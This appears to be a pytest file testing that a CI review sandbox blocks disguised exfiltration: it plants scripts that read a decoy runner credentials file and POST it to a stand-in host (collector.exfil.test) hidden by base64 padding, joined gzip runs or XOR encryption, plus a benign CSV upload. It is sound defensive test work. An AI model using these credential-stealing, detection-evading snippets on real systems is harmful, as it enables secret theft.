"""Bodies that tried to blind the search (issue 20): one real `cujo review` per case.

Each attack ended clean before: a decoy in base64 ahead of 25 MiB of padding holding one
``%`` (the url layer was over the old decode budget, marked unsearched where nothing read
it), plain text in base64 then ``base64(gzip(decoy))`` (the runs were joined, the gzip
header left offset 0), and a decoy file read, XORed and POSTed (nothing decodes it).
Each must block; the benign twin, a test uploading 30 MiB of CSV, must not. Targets are
`.test` names the logging resolver sinks. Needs full isolation (root, `ip`, `nft`,
`setpriv`, bubblewrap), as on an Actions runner; elsewhere skipped with the reason.
"""

from __future__ import annotations

import json
from typing import Any

from cujorun import Review
from e2ecases import (
    ISOLATION,
    Case,
    CaseReviews,
    case_reviews,
    critical_rules,
)

pytestmark = ISOLATION

FAST = {"install": 120, "test": 180, "smoke": 60, "probes": 60}
CALC = "def add(a, b):\n    return a + b\n"
BASE = {
    "requirements.txt": "",
    "calc.py": CALC,
    "ci/test.sh": "echo tested\n",
    ".cujo.yml": json.dumps(
        {"timeouts": FAST, "install": "true", "test": "bash ci/test.sh", "smoke": "true"}
    )
    + "\n",
}

# Every script reads the decoy credentials file the sandbox planted in the runner's folder
# (its OAuth client, in plain text), as a stealer would, and sends what it read.
READ = """
import base64, glob, gzip, os, urllib.request
secret = open(glob.glob(os.path.expanduser("~/runners/*/.credentials"))[0], "rb").read()
def send(path, body):
    urllib.request.urlopen("https://collector.exfil.test/" + path, data=body, timeout=60)
"""

SCRIPTS = {
    # The url layer of the whole body (one % in it) is over the old 24 MiB budget.
    "padding": READ + 'send("p", base64.b64encode(secret) + b"x" * (25 << 20) + b"%" + b"x" * 64)',
    # Two runs: the second's gzip header no longer starts its layer once they are joined.
    "joined": READ + 'send("j", base64.b64encode(b"build 12 passed on linux, all green")'
    ' + b" " + base64.b64encode(gzip.compress(secret)))',
    # Encrypted: no decoder can read it; the sender read a decoy first.
    "xor": READ + "key = os.urandom(len(secret))\n"
    'send("x", bytes(a ^ b for a, b in zip(secret, key)))',
    # The benign twin: a large readable upload, searched to its end, nothing in it.
    "csv": 'import urllib.request\nrows = b"".join(b"%d,user%d,%d\\n" % (i, i, i * 7) '
    "for i in range(2_000_000))\n"
    'urllib.request.urlopen("https://upload.example.test/csv", data=rows, timeout=120)',
}
CASES = {
    name: Case(BASE, {"ci/test.sh": "python - <<'PY'\n" + code.strip() + "\nPY\necho sent\n"})
    for name, code in SCRIPTS.items()
}
reviews = case_reviews(CASES, "blind-bodies")
Reviews = CaseReviews


def sent(review: Review) -> dict[str, Any]:
    """Return the tests' one request to the collector (or the upload host)."""
    (item,) = [
        e
        for e in review.report("tests")["egress"]
        if e["host"] in ("collector.exfil.test", "upload.example.test") and e["method"] == "POST"
    ]
    return item


def test_a_decoy_ahead_of_padding_past_the_old_budget_blocks(reviews: Reviews) -> None:
    review = reviews.get("padding")
    assert review.verdict["state"] == "blocked", str(review)
    assert "decoy-egress" in critical_rules(review), review.verdict["findings"]
    item = sent(review)
    assert item["decoy_seen"], item
    # The padding is one 25 MiB run of base64's alphabet: searched in windows, and where
    # the proxy says it was cut into pieces, that is a finding of its own.
    # (one finding per behaviour: the request's finding names both rules).
    if item["unsearched"]:
        rules = {r for f in review.verdict["findings"] for r in f["rules"]}
        assert "unsearched-egress" in rules, item["unsearched"]


def test_a_gzip_run_after_a_text_run_is_inflated_and_blocks(reviews: Reviews) -> None:
    review = reviews.get("joined")
    assert review.verdict["state"] == "blocked", str(review)
    assert "decoy-egress" in critical_rules(review), review.verdict["findings"]
    item = sent(review)
    assert any(w.endswith("gzip") for w in item["decoy_where"]), item


def test_a_decoy_file_xored_and_posted_blocks_as_an_opaque_channel(reviews: Reviews) -> None:
    review = reviews.get("xor")
    assert review.verdict["state"] == "blocked", str(review)
    assert "decoy-then-opaque-channel" in critical_rules(review), review.verdict["findings"]
    item = sent(review)
    assert item["opaque"] is True, item
    assert item["decoy_seen"] == [], item  # nothing decodes it: the channel is the evidence


def test_a_large_readable_upload_is_searched_whole_and_does_not_block(reviews: Reviews) -> None:
    review = reviews.get("csv")
    assert review.verdict["state"] == "clean", str(review)
    assert critical_rules(review) == set(), review.verdict["findings"]
    item = sent(review)
    assert item["bytes_out"] > 30 << 20, item
    assert (item["decoy_seen"], item["unsearched"], item["opaque"]) == ([], "", False), item
